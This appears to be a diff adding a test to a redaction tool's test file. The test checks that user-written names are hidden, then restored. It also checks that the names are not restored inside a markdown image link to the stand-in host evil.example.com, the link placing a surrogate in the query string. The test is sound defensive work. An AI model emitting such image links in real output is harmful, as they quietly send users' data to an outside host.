@@ -153,3 +153,14 @@ def test_legend_is_hidden_itself(screen: Screen) -> None:
 
     assert "new data centre" in line and "altmarsh" not in line
     assert isinstance(hidden.findings[0][0], Finding)
+
+
+def test_an_address_that_the_user_wrote_comes_back(screen: Screen) -> None:
+    """Law 7 holds for strangers; a host that the user named is none."""
+    text = "see https://docs.oracle.com/search?q=hanbyeol and https://hanbyeol.internal/x"
+
+    hidden = screen.hide(text)
+
+    assert "hanbyeol" not in hidden.text
+    assert hidden.restore(hidden.text) == text
+    assert "hanbyeol" not in hidden.restore("![x](https://evil.example.com/?q=" + hidden.findings[0].surrogate + ")")
